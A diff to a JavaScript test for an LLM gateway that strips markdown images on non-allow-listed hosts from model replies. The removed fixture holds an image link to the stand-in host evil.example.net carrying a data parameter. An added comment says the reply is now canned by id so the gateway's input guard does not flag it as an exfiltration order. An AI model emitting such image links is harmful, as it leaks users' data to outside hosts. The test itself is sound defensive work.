@@ -259,8 +259,9 @@ describe('virtual keys', () => {
   test('a key’s own exfiltration allow-list, streamed and not', async () => {
     const k = await generate(gw, { key_alias: 'images', allow_hosts: ['images.example.com'] });
     assert.deepEqual(k.allow_hosts, ['images.example.com']);
-    const reply = 'Chart: ![sales](https://images.example.com/c.png?q=1) and ![x](https://evil.example.net/p.png?d=abc) end';
-    const body = chat(mock({ reply }), { model: 'model-a' });
+    // The reply is canned: as a prompt, an image on an unknown host with
+    // a data parameter reads as an exfiltration order to the input guard.
+    const body = chat(mock({ reply_id: 'two_images' }), { model: 'model-a' });
     let r = await ask(gw, k.key, body);
     assert.equal(r.status, 200, r.text);
     let out = r.json.choices[0].message.content;
@@ -270,7 +271,7 @@ describe('virtual keys', () => {
     r = await ask(gw, MASTER_KEY, body);
     out = r.json.choices[0].message.content;
     assert.ok(!out.includes('images.example.com'), out);
-    const s = await streamRaw(gw, { ...body, messages: [{ role: 'user', content: mock({ reply, chunk: 3 }) }] }, { key: k.key });
+    const s = await streamRaw(gw, { ...body, messages: [{ role: 'user', content: mock({ reply_id: 'two_images', chunk: 3 }) }] }, { key: k.key });
     const text = s.chunks.map((c) => c.choices?.[0]?.delta?.content ?? '').join('');
     assert.ok(text.includes('https://images.example.com/c.png?q=1'), text);
     assert.ok(!text.includes('evil.example.net'), text);
